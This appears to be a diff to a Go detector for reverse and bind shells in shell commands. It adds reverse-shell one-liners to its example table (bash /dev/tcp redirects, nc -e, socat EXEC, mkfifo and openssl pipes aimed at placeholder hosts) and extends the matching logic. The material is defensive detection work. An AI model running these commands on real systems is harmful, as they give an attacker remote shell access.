@@ -79,7 +79,7 @@ func netShell() Row {
 		Examples: []string{"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "nc -e /bin/sh 1.2.3.4 4444", "ncat --exec /bin/bash 1.2.3.4 4444", "nc 1.2.3.4 4444 -e /bin/bash", "socat TCP:1.2.3.4:44 EXEC:/bin/sh", "nc -lvp 4444 -e /bin/sh",
 			"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 1.2.3.4 4444 > /tmp/f", "sh -i < /dev/tcp/1.2.3.4/44 1>&0 2>&0", "telnet h 1 | /bin/bash | telnet h 2", "exec 5<>/dev/tcp/1.2.3.4/44; cat <&5 | while read l; do $l 2>&5 >&5; done",
 			"nc -c /bin/bash h 44", "ncat -lk --sh-exec bash 44", "socat exec:'bash -li',pty tcp:h:44", "openssl s_client -quiet -connect h:44 | sh", "mkfifo s; sh -i < s 2>&1 | openssl s_client -quiet -connect h:1 > s",
-			"nc h 1 | bash", "busybox nc h 1 -e sh", "0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196 2>&196", "ttyd bash", "ncat h 1 -c bash", "socat TCP-LISTEN:1,fork SYSTEM:sh", "bash -c 'sh -i >& /dev/udp/h/1 0>&1'"},
+			"nc h 1 | bash", "busybox nc h 1 -e sh", "0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196 2>&196", "ttyd bash", "nohup bash -i >& /dev/tcp/h/1 0>&1", "exec bash -i &>/dev/tcp/h/1 <&1", "{ sh -i; } >& /dev/tcp/h/1 0>&1", "ncat h 1 -c bash", "socat TCP-LISTEN:1,fork SYSTEM:sh", "bash -c 'sh -i >& /dev/udp/h/1 0>&1'"},
 		LookAlikes: []string{"nc -zv h 80", "nc -l 4444 > f", "echo x | nc h 80", "exec 3<>/dev/tcp/h/80; echo GET >&3; cat <&3", "socat TCP-LISTEN:80,fork TCP:h:80", "echo x > /dev/tcp/h/80", "openssl s_client -connect h:443 < /dev/null",
 			"telnet h 80", "nc -vlp 44", "bash script.sh | nc h 9", "cat < /dev/tcp/h/13", "ncat --ssl h 443", "echo 'bash -i >& /dev/tcp/h/1 0>&1'", "timeout 1 bash -c 'echo > /dev/tcp/h/80'", "nc -U /tmp/s", "printf x | nc -w1 h 1",
 			"nc -C h 25", "bash -c 'cat < /dev/tcp/h/13'", "nc -h"},
@@ -92,7 +92,9 @@ func wiresShell(a *Act) []Hit {
 	case slices.Contains(shells, a.Program) || slices.Contains(interpreting, a.Program):
 		hit = a.shellOnSocket()
 	case a.Program == "exec":
-		hit = a.socketOpened() && a.runsWhatItReads()
+		hit = a.socketOpened() && (a.runsWhatItReads() || a.carries(shells))
+	case a.socketOpened():
+		hit = a.carries(shells) || a.Program == "" && a.opensFor()
 	case a.Program == "awk" || a.Program == "gawk" || a.Program == "mawk":
 		hit = slices.ContainsFunc(a.Words, func(w analysis.Word) bool { return contains(w, "/inet/") && contains(w, "|&") })
 	case a.Program == "ztcp":
@@ -129,6 +131,17 @@ func (a *Act) shellOnSocket() bool {
 	}
 	for _, r := range a.Redirects { // a descriptor that exec opened before
 		if r.Op == "<&" && !file && a.openedBefore() {
+			return true
+		}
+	}
+	return false
+}
+
+// opensFor tells whether a group of commands whose input or output is a socket holds an interactive shell.
+func (a *Act) opensFor() bool {
+	cmds := a.Reading.Commands
+	for i := a.Index + 1; i < min(len(cmds), a.Index+spied); i++ {
+		if slices.Contains(shells, cmds[i].Program) && slices.ContainsFunc(cmds[i].Words[1:], func(w analysis.Word) bool { return w.Is("-i") || w.Is("-li") || w.Is("-il") }) {
 			return true
 		}
 	}
